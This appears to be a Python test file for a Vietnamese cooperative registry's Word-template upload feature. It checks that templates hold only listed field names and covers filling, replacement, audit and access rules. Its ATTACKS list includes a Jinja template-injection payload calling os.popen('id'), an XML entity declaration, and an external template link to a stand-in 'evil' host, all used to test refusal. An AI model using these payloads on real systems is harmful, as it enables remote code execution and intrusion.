"""The office's own Word templates: only names of a list, nothing that runs, nothing from outside."""

import zipfile
from io import BytesIO

import pytest
from docx import Document as WordDocument

from accounts.rules.duties import Duty
from audit import queries as audit_log
from coop_registry.models import PaperTemplate
from coop_registry.papers.filings import issuing
from coop_registry.papers.filings.filled import values_of
from coop_registry.rules.filings.papers import FilingPaperKind
from coop_registry.rules.filings.template_fields import SAMPLES
from coop_registry.services.filings import templates as services
from core.access import EVERYTHING
from core.db import db
from core.errors import RuleViolation
from papers import queries as paper_queries
from papers.word_templates import check_template, fill_template
from reference import queries as reference
from tests.coop_registry.filings.papers_kit import facts_of
from tests.factories.accounts import make_user
from tests.factories.filings import OFFICER, TODAY, receive, word_template
from tests.factories.registry import make_organisation

P = FilingPaperKind
CHECK_PAGE = "https://htx.example/kiem-tra-giay-to"


def words(content: bytes) -> str:
    return "\n".join(one.text for one in WordDocument(BytesIO(content)).paragraphs)


def with_part(content: bytes, name: str, old: bytes, new: bytes) -> bytes:
    """Return a Word file with a piece of one part replaced."""
    target = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as source, zipfile.ZipFile(target, "w") as made:
        for part in source.namelist():
            body = source.read(part)
            made.writestr(part, body.replace(old, new) if part == name else body)
    return target.getvalue()


def split_runs(*pieces: str) -> bytes:
    """Return a Word file whose one paragraph is cut into runs, as Word itself does."""
    document = WordDocument()
    paragraph = document.add_paragraph()
    for index, piece in enumerate(pieces):
        paragraph.add_run(piece).bold = bool(index % 2)
    return saved(document)


def saved(document) -> bytes:
    target = BytesIO()
    document.save(target)
    return target.getvalue()


def with_header(words: str) -> bytes:
    document = WordDocument()
    document.sections[0].header.paragraphs[0].text = words
    return saved(document)


def with_title(words: str) -> bytes:
    document = WordDocument()
    document.core_properties.title = words
    return saved(document)


PLAIN = word_template("{{ ten_to_chuc }}")
ATTACKS = {
    "attribute": (word_template("{{ ''.__class__ }}"), "viết sai"),
    "attribute of a name": (word_template("{{ ten_to_chuc.__class__ }}"), "viết sai"),
    "filter": (word_template("{{ ten_to_chuc|upper }}"), "viết sai"),
    "call": (word_template("{{ cycler.__init__.__globals__.os.popen('id') }}"), "viết sai"),
    "statement": (word_template("{% for x in range(9) %}"), "{%"),
    "statement cut into runs": (split_runs("{", "% set a = 1 ", "%}"), "{%"),
    "comment": (word_template("{# ghi chú #}"), "{#"),
    "call cut into runs": (split_runs("{{ ten_to_chuc", "()", " }}"), "viết sai"),
    "unknown name": (word_template("{{ mat_khau }}"), "“mat_khau”"),
    "unknown name in a header": (with_header("{{ config }}"), "“config”"),
    "unknown name in the properties": (with_title("{{ lipsum }}"), "“lipsum”"),
    "rich text": (word_template("{{r ten_to_chuc }}"), "viết sai"),
    "unclosed": (word_template("{{ ten_to_chuc }"), "viết sai"),
    "in an attribute": (
        with_part(PLAIN, "word/document.xml", b"<w:body>", b'<w:body a="{{ namespace(x=1) }}">'),
        "không phải một tên",
    ),
    "entities": (
        with_part(
            PLAIN, "word/document.xml", b"<w:document", b'<!DOCTYPE a [<!ENTITY b "c">]><w:document'
        ),
        "không phải mẫu Word",
    ),
    "a template from elsewhere": (
        with_part(
            PLAIN,
            "word/_rels/document.xml.rels",
            b"</Relationships>",
            b'<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
            b"</Relationships>",
        ),
        "từ nơi khác",
    ),
    "broken": (with_part(PLAIN, "word/document.xml", b"</w:body>", b""), "không phải mẫu Word"),
}


@pytest.mark.parametrize(("content", "said"), ATTACKS.values(), ids=ATTACKS)
def test_a_template_that_is_more_than_names_is_refused(content, said) -> None:
    with pytest.raises(RuleViolation, match=said) as refusal:
        check_template(content, SAMPLES)
    assert refusal.value.field == "file"


def test_the_engine_itself_would_not_run_it_either() -> None:
    for text in ("{{ ''.__class__.__mro__ }}", "{{ khong_co }}"):
        with pytest.raises(Exception, match=r"unsafe|undefined"):
            fill_template(word_template(text), SAMPLES)


def test_a_field_that_word_cut_into_runs_is_filled() -> None:
    content = split_runs("{{ ten_to", "_chuc }}", " và {{ma_so}}")
    assert check_template(content, SAMPLES) == {"ten_to_chuc", "ma_so"}
    assert words(fill_template(content, SAMPLES | {"ten_to_chuc": "HTX <Minh & Phú> {{ x }}"})) == (
        "HTX <Minh & Phú> {{ x }} và 4700000000"
    )


@pytest.mark.db
def test_every_name_of_the_list_is_filled_and_no_other(session) -> None:
    row = receive(make_organisation())
    assert set(values_of(facts_of(row, P.RECEIPT))) | {"ma_tra_cuu"} == set(SAMPLES)


@pytest.fixture
def district(session):
    return reference.unit_by_code("064", TODAY)


def put(district, content: bytes, paper: P = P.RECEIPT) -> PaperTemplate:
    return services.upload(
        district.id,
        paper,
        filename="mau.docx",
        content=content,
        actor_id=OFFICER,
        scope=EVERYTHING,
    )


@pytest.mark.db
def test_the_offices_template_takes_the_place_of_ours_for_its_paper_alone(district) -> None:
    made = put(district, word_template("Biên nhận: {{ ten_to_chuc }}", "{{ han_tra_ket_qua }}"))
    row = receive(make_organisation(is_demo=True))
    more = {"today": TODAY, "check_page": CHECK_PAGE, "actor_id": OFFICER}
    paper = issuing.issue(row, P.RECEIPT, **more)
    assert paper.pdf_file_id is None
    kept = paper_queries.stored_file_with_content(paper.docx_file_id)
    lines = words(kept.content).splitlines()
    assert lines[0] == "DỮ LIỆU TRÌNH DIỄN"
    assert lines[1:3] == ["Biên nhận: Hợp tác xã Nông nghiệp Thử Nghiệm", "08/05/2025"]
    assert paper.code in lines[-1]
    stranger = receive(make_organisation("01918", identifiers=(), name="Hợp tác xã Ba Bể"))
    assert issuing.issue(stranger, P.RECEIPT, **more).pdf_file_id is not None
    services.stop(made, actor_id=OFFICER)
    assert issuing.issue(row, P.RECEIPT, **more).pdf_file_id is not None
    actions = [one.action for one in audit_log.history("paper_template", made.id, limit=5)]
    assert actions == ["paper_template.stopped", "paper_template.uploaded"]


@pytest.mark.db
def test_a_newer_template_ends_the_older_and_a_wrong_file_changes_nothing(district) -> None:
    first = put(district, word_template("Mã: {{ ma_tra_cuu }}"))
    assert first.shows_code
    second = put(district, PLAIN)
    assert (first.ended_at is None, second.ended_at is None) == (False, True)
    for content in (b"%PDF-1.4", b"", b"PK\x03\x04"):
        with pytest.raises(RuleViolation):
            put(district, content)
    assert second.ended_at is None


@pytest.mark.db
def test_the_page_tells_the_names_and_takes_a_template(district, as_user) -> None:
    officer = as_user(make_user(Duty.REGISTRY_OFFICER, district))
    assert "{{ han_tra_ket_qua }}" in officer.get("/ho-so/mau-van-ban").text
    upload = {"unit_id": str(district.id), "paper": "receipt"}

    def send(content: bytes):
        return officer.post(
            "/ho-so/mau-van-ban/tai-len",
            data=upload | {"file": (BytesIO(content), "mau.docx")},
            content_type="multipart/form-data",
        )

    wrong = send(word_template("{{ ten_khac }}"))
    assert wrong.status_code == 200
    assert "Không có chỗ điền tên “ten_khac”" in wrong.text
    assert send(PLAIN).status_code == 303
    made = db.session.query(PaperTemplate).one()
    shown = officer.get(f"/ho-so/mau-van-ban/{made.id}/xem-thu")
    assert "BẢN XEM THỬ" in words(shown.data)
    assert "Hợp tác xã Mẫu" in words(shown.data)
    for duty in (Duty.REGISTRY_RECEPTION, Duty.REGISTRY_LEADER):
        other = as_user(make_user(duty, district))
        assert other.get("/ho-so/mau-van-ban").status_code == 200
        assert other.get("/ho-so/mau-van-ban/tai-len").status_code == 403
    stranger = as_user(make_user(Duty.REGISTRY_OFFICER, reference.unit_by_code("061", TODAY)))
    assert stranger.get(f"/ho-so/mau-van-ban/{made.id}/tep").status_code == 404
    assert stranger.post(f"/ho-so/mau-van-ban/{made.id}/thoi-dung").status_code == 404
    assert officer.post(f"/ho-so/mau-van-ban/{made.id}/thoi-dung").status_code == 303
    assert "Chưa có mẫu riêng nào" in officer.get("/ho-so/mau-van-ban").text
